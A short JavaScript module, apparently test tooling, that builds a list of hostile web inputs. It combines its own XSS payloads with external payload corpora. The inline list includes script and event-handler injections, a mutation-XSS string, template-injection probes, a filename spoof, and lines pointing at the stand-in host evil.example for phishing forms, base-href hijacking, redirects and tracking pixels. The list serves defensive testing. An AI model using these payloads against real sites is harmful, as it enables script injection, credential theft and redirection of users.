// What attackers write. A few of our own always; with ../shared (or DANDELION_SHARED) the collections of others, read
// there and never copied here.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { ROOT } from "./hub.js";

const OURS = [
  "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>", "<a href=\"javascript:alert(1)\">press me</a>",
  "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>", "<style>@import url(//evil.example/x.css)</style>", "{{7*7}}{% raw %}",
  "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "<form action=//evil.example><button>Sign in", "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<b style=\"position:fixed;inset:0\">over everything</b>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "\u202Egnp.exe", "\u0000null", "a\u0300".repeat(200),
  "<img src=https://evil.example/pixel.gif>", "<video><source onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "%s%n${7*7}#{7*7}",
];

/** Every payload once, and the folder they came from if there is one. */
export function payloads() {
  const corpora = join(process.env.DANDELION_SHARED ?? join(ROOT, "../shared"), "corpora");
  if (!existsSync(corpora)) return { all: OURS, from: null };
  const read = (name) => strings(JSON.parse(readFileSync(join(corpora, name), "utf8")));
  const dompurify = JSON.parse(readFileSync(join(corpora, "xss/dompurify.json"), "utf8")).map((one) => one.payload);
  const theirs = [...dompurify, ...read("xss/owasp-filter-evasion.json"), ...read("xss/payloadsallthethings.json"), ...read("naughty-strings/blns.json")];
  return { all: [...new Set([...OURS, ...theirs.flat()])].filter((text) => typeof text === "string"), from: corpora };
}

function strings(value) {
  if (typeof value === "string") return [value];
  return Object.values(value ?? {}).flatMap(strings);
}
